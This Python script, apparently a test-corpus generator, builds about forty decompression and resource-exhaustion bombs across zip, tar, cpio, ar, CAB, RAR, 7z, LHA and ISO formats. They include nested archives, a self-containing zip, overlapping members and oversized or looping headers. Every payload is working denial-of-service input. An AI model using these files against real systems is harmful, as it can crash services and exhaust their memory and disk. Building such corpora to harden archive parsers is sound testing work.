"""Bombs of many members: written into the folder that is named."""
import io
import lzma
import pathlib
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

from quine import quine

MB = 1 << 20
ZEROS = bytes(110 * MB)


def deflated(data):
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(data) + packer.flush()


def zipped(members, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED, **options)
    return out.getvalue()


def local(name, method, crc, packed, size, extra=b""):
    """The header of a member (APPNOTE 4.3.7)."""
    fields = struct.pack("<HHHIIIIHH", 20, 0, method, 0, crc, packed, size, len(name), len(extra))
    return b"PK\x03\x04" + fields + name + extra


def central(name, method, crc, packed, size, offset):
    """Its twin in the directory (APPNOTE 4.3.12)."""
    fields = struct.pack("<HHHHIIIIHHHHHII", 20, 20, 0, method, 0, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset)
    return b"PK\x01\x02" + fields + name


def directory_end(count, size, offset):
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, offset, 0)


def finished(body, members):
    """A zip of these bytes with a directory of (name, method, crc, packed, size, offset)."""
    directory = b"".join(central(*member) for member in members)
    return body + directory + directory_end(len(members), len(directory), len(body))


def zip_42():
    """As 42.zip: sixteen of the layer below in each of five layers, 2^20 files of 4 MB at the bottom."""
    data = bytes(4_000_000)
    for _ in range(5):
        data = zipped([(chr(97 + copy), data) for copy in range(16)])
    return data


def zip_quine():
    """As Cox's r.zip. The name fills the header up to where an instruction of five bytes repeats it."""
    name = b"a zip that holds itself.zip"

    def build(number, check, size):
        own = name.ljust(30, b"-")
        # What is packed is all but head and tail.
        tail_size = 46 + len(own) + 22
        packed = size - 30 - len(own) - tail_size
        head = local(own, 8, check, packed, size)
        member = central(own, 8, check, packed, size, 0)
        member = member[:12] + struct.pack("<I", number) + member[16:]
        return head, member + directory_end(1, len(member), size - tail_size)

    return quine(build)


def zip_overlapping(count):
    """As Fifield's: each local header lies inside of the stream before, quoted by a stored block."""
    kernel = deflated(bytes(2 * MB))
    body, members, ends = kernel, [], []
    crc = 0
    for number in range(count):
        name = b"%05d" % number
        quoted = b"" if number == 0 else b"\0" + struct.pack("<HH", 35, 0xFFFF ^ 35)
        stream = quoted + body
        body = local(name, 8, crc, len(stream), 2 * MB + 35 * number) + stream
        ends.append((name, len(body), len(stream), 2 * MB + 35 * number))
    for name, end, packed, size in ends:
        members.append((name, 8, crc, packed, size, len(body) - end))
    return finished(body, members)


def zip_same(count):
    """Every entry of the directory says the same member."""
    stream = deflated(bytes(4 * MB))
    crc = zlib.crc32(bytes(4 * MB))
    body = local(b"a", 8, crc, len(stream), 4 * MB) + stream
    return finished(body, [(b"%d" % number, 8, crc, len(stream), 4 * MB, 0) for number in range(count)])


def zip_sizes():
    """Sizes as large as can be said, for three bytes."""
    body = local(b"a", 0, 0, 0xFFFFFFFE, 0xFFFFFFFE) + b"abc"
    return finished(body, [(b"a", 0, 0, 0xFFFFFFFE, 0xFFFFFFFE, 0), (b"b", 8, 0, 1, 0xFFFFFFFE, 0xFFFFFFF0)])


def zip_descriptors(count, megabytes):
    """Stored members whose size only a descriptor would tell, and no descriptor in a long file."""
    head = b"PK\x03\x04" + struct.pack("<HHHIIIIHH", 20, 8, 0, 0, 0, 0, 0, 1, 0) + b"a"
    return head * count + bytes(megabytes * MB)


def tar_header(name, size, kind=b"0"):
    header = bytearray(512)
    header[: len(name)] = name
    header[100:124] = b"0000644\0" b"0000000\0" b"0000000\0"
    header[124:136] = size
    header[136:148] = b"00000000000\0"
    header[156:157] = kind
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def octal(number):
    return b"%011o\0" % number


def tar_sizes():
    base256 = b"\x80" + bytes(3) + struct.pack(">Q", (1 << 63) - 1)
    sizes = [octal(0o77777777777), base256, b"\xff" * 12, b"99999999999\0"]
    return b"".join(tar_header(b"a", size) + b"abc".ljust(512, b"\0") for size in sizes)


def tar_pax(megabytes):
    """One header that is as long as a member."""
    value = b"p" * (megabytes * MB)
    record = b" path=" + value + b"\n"
    record = b"%d" % (len(record) + 9) + record
    padded = record + bytes(-len(record) % 512)
    return tar_header(b"x", octal(len(record)), b"x") + padded + tar_header(b"a", octal(0)) + bytes(1024)


def tar_names(count):
    """Long names for other long names, and no member."""
    one = tar_header(b"././@LongLink", octal(512), b"L") + b"n" * 512
    return one * count


def tar_nested(depth):
    data = b"the innermost"
    for _ in range(depth):
        data = tar_header(b"a.tar", octal(len(data))) + data + bytes(-len(data) % 512) + bytes(1024)
    return data


def cpio(size, name_size=2, name=b"a\0"):
    fields = [1, 0o100644, 0, 0, 1, 0, size, 0, 0, 0, 0, name_size, 0]
    header = b"070701" + b"".join(b"%08x" % field for field in fields) + name
    return header + bytes(-len(header) % 4)


def ar(size):
    return b"%-16s%-12d%-6d%-6d%-8s%-10s`\n" % (b"a/", 0, 0, 0, b"100644", size)


def cab(kind, folders, files, blocks):
    """[MS-CAB]: `folders` that all point at the same `blocks`, and (folder, offset, size) as files."""
    data = b"".join(struct.pack("<IHH", 0, len(packed), size) + packed for packed, size in blocks)
    first_file = 36 + 8 * folders
    entries = b"".join(
        struct.pack("<IIHHHH", size, offset, folder, 0, 0, 0) + b"%d\0" % number
        for number, (folder, offset, size) in enumerate(files)
    )
    first_block = first_file + len(entries)
    folder = struct.pack("<IHH", first_block, len(blocks), kind)
    size = first_block + len(data)
    head = b"MSCF" + struct.pack("<IIIIIBBHHHHH", 0, size, 0, first_file, 0, 3, 1, folders, len(files), 0, 0, 0)
    return head + folder * folders + entries + data


def mszip(count):
    """Blocks of 32 KiB of zeros."""
    return [(b"CK" + deflated(bytes(32768)), 32768)] * count


def vint(number):
    """RAR 5's numbers."""
    out = b""
    while number > 127:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])


def rar_block(body):
    body = vint(len(body)) + body
    return struct.pack("<I", zlib.crc32(body)) + body


RAR = b"Rar!\x1a\x07\x01\x00" + rar_block(vint(1) + vint(0) + vint(0))


def rar_file(name, data, size, method=0):
    """A member (RAR 5.0 archive format, `File header`); `method` is the field `Compression information`."""
    body = vint(2) + vint(2) + vint(len(data)) + vint(0) + vint(size) + vint(0) + vint(method)
    return rar_block(body + vint(1) + vint(len(name)) + name) + data


def rar_nested(depth):
    data = b"the innermost"
    for _ in range(depth):
        data = RAR + rar_file(b"a.rar", data, len(data))
    return data


def seven_zip(header):
    start = struct.pack("<QQI", 0, len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + header


def seven_zip_packed(header):
    """The header is LZMA itself, as 7-Zip writes it."""
    packed = lzma.compress(header, format=lzma.FORMAT_ALONE, preset=0)
    properties, packed = packed[:5], packed[13:]
    streams = (
        b"\x17\x06" + number_7z(0) + number_7z(1) + b"\x09" + number_7z(len(packed)) + b"\0"
        b"\x07\x0b\x01\0\x01\x23\x03\x01\x01\x05" + properties + b"\x0c" + number_7z(len(header)) + b"\0\0"
    )
    start = struct.pack("<QQI", len(packed), len(streams), zlib.crc32(streams))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + streams


def number_7z(value):
    return b"\xff" + struct.pack("<Q", value)


def seven_zip_folders(count, repeats):
    """Folders of one coder, and as often the statement that each has one member."""
    folders = b"\x07\x0b" + number_7z(count) + b"\0" + b"\x01\x01\x00" * count + b"\0"
    return seven_zip_packed(b"\x01\x04" + folders + b"\x08\0" * repeats + b"\0\0")


def by_7z(members, *switches):
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        for name, content in members:
            (folder / name).write_bytes(content)
        command = ["7z", "a", "-bd", *switches, "out.7z", "."]
        subprocess.run(command, cwd=folder, check=True, stdout=subprocess.DEVNULL)
        return (folder / "out.7z").read_bytes()


def lha_header(name, level, size, extended=0):
    if level == 2:
        body = b"-lh0-" + struct.pack("<III", size, size, 0) + b"\x20\x02" + struct.pack("<HBH", 0, 85, extended)
        return struct.pack("<H", len(body) + 2) + body
    body = b"-lh0-" + struct.pack("<III", size, size, 0) + b"\x20\x01" + bytes([len(name)]) + name
    body += struct.pack("<HBH", 0, 85, extended)
    return bytes([len(body), sum(body) & 255]) + body


def lha_chains(count):
    """Headers of level 2 that each say that the same long chain of headers extends them."""
    heads = b""
    for number in range(count):
        heads += lha_header(b"", 2, 0, 3 + 26 * (count - 1 - number))
    return heads + b"\x01\x03\x00" * 2_000_000 + b"\x01\0\0"


def iso_zeros(count, size):
    """Directories of zeros that share their bytes."""
    image = iso([(b"%05d" % number, 200 + number, size, 2) for number in range(count)])
    return image + bytes(2048 * (300 + count) + size)


def iso(records):
    """ECMA-119: an image whose root directory, sector 18, holds (name, sector, size, flags)."""

    def record(name, sector, size, flags):
        body = struct.pack("<I", sector) + struct.pack(">I", sector) + struct.pack("<I", size) + struct.pack(">I", size)
        body = b"\0" + body + bytes(7) + bytes([flags, 0, 0, 1, 0, 0, 1, len(name)]) + name
        body += b"\0" * (1 - len(name) % 2)
        return bytes([len(body) + 1]) + body

    sectors, sector = [], b""
    for one in [(b"\0", 18, 2048, 2), (b"\1", 18, 2048, 2), *records]:
        one = record(*one)
        if len(sector) + len(one) > 2048:
            sectors, sector = sectors + [sector.ljust(2048, b"\0")], b""
        sector += one
    tree = b"".join([*sectors, sector.ljust(2048, b"\0")])
    volume = bytearray(2048)
    volume[:7] = b"\1CD001\1"
    volume[80:88] = struct.pack("<I", 1000) + struct.pack(">I", 1000)
    volume[128:132] = b"\0\x08\x08\0"
    volume[156:190] = record(b"\0", 18, len(tree), 2)
    return bytes(32768) + bytes(volume) + b"\xffCD001\1".ljust(2048, b"\0") + tree


def bombs():
    yield "zip-flat", zipped([("a", ZEROS)])
    yield "zip-42", zip_42()
    yield "zip-quine", zip_quine()
    yield "zip-overlapping", zip_overlapping(300)
    yield "zip-same", zip_same(5_000)
    yield "zip-many", zipped((str(number), b"") for number in range(12_000))
    yield "zip-descriptors", zip_descriptors(9_000, 30)
    yield "zip-sizes", zip_sizes()
    yield "docx", zipped([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:p>" * (22 * MB))])
    yield "tar-sizes", tar_sizes()
    yield "tar-many", tar_header(b"a", octal(0)) * 12_000 + bytes(1024)
    yield "tar-nested", tar_nested(40)
    yield "tar-pax", tar_pax(20)
    yield "tar-names", tar_names(20_000)
    yield "cpio-sizes", cpio(0xFFFFFFFF) + cpio(1, 0xFFFFFFFF)
    yield "cpio-many", cpio(0) * 12_000
    yield "ar-many", b"!<arch>\n" + ar(b"0") * 12_000
    yield "ar-size", b"!<arch>\n" + ar(b"9999999999") + b"abc"
    yield "cab-same", cab(1, 2_000, [(folder, 0, 32768 * 200) for folder in range(2_000)], mszip(200))
    yield "cab-files", cab(1, 1, [(0, 0, 32768)] * 40_000, mszip(1))
    yield "cab-turns", cab(1, 2, [(at % 2, at, 1) for at in range(40_000)], mszip(1_000))
    yield "cab-block", cab(1, 1, [(0, 0, 110 * MB)], [(b"CK" + deflated(bytes(60 * MB)), 32768)])
    yield "cab-window", cab(0x1503, 1, [(0, 0, 32768)], [(bytes(100), 32768)] * 1000)
    yield "rar-many", RAR + rar_file(b"a", b"", 0) * 12_000
    yield "rar-nested", rar_nested(40)
    yield "rar-dictionary", RAR + rar_file(b"a", b"\xc7" + bytes([0x5A ^ 0xC7 ^ 250, 250]) + bytes(250), 1 << 60, 3 << 7 | 15 << 10)
    yield "7z-flat", by_7z([("a", ZEROS)], "-mx=1")
    yield "7z-many", by_7z([(f"{number:05}", b"") for number in range(10_500)])
    yield "7z-numbers", seven_zip(b"\x01\x05\xff" + b"\xff" * 7 + b"\x0e\xff" + b"\xff" * 7)
    yield "7z-files", seven_zip_packed(b"\x01\x05" + number_7z(1 << 29) + b"\0" * (80 * MB))
    yield "7z-entries", seven_zip_packed(b"\x01\x05" + number_7z(1 << 20) + b"\x11\1\0" * 1_000_000 + b"\0\0")
    yield "7z-folders", seven_zip_folders(100_000, 1_000_000)
    yield "7z-header", seven_zip(b"\x17\x06\x00\x01\x09\xfe" + b"\xff" * 6 + b"\x00\x07\x0b\x01\x00\x01\x01\x00\x0c\xfe" + b"\xff" * 6 + b"\x00\x00")
    yield "lha-many", lha_header(b"", 2, 0) * 12_000
    yield "lha-names", lha_header(b"a", 1, 0, 3) + b"\x01\x03\x00" * 2_000_000
    yield "lha-chains", lha_chains(2_000)
    yield "iso-zeros", iso_zeros(2_000, 12 * MB)
    yield "iso-loop", iso([(b"A", 18, 2048, 2), (b"B", 18, 2048, 2)])
    yield "iso-same", iso([(b"%05d" % number, 0, 8 * MB, 0) for number in range(2_000)]) + bytes(8 * MB)
    yield "iso-size", iso([(b"A", 18, 0xFFFFFFFF, 2), (b"B", 19, 0xFFFFFFFF, 0)])


for name, content in bombs():
    (pathlib.Path(sys.argv[1]) / name).write_bytes(content)
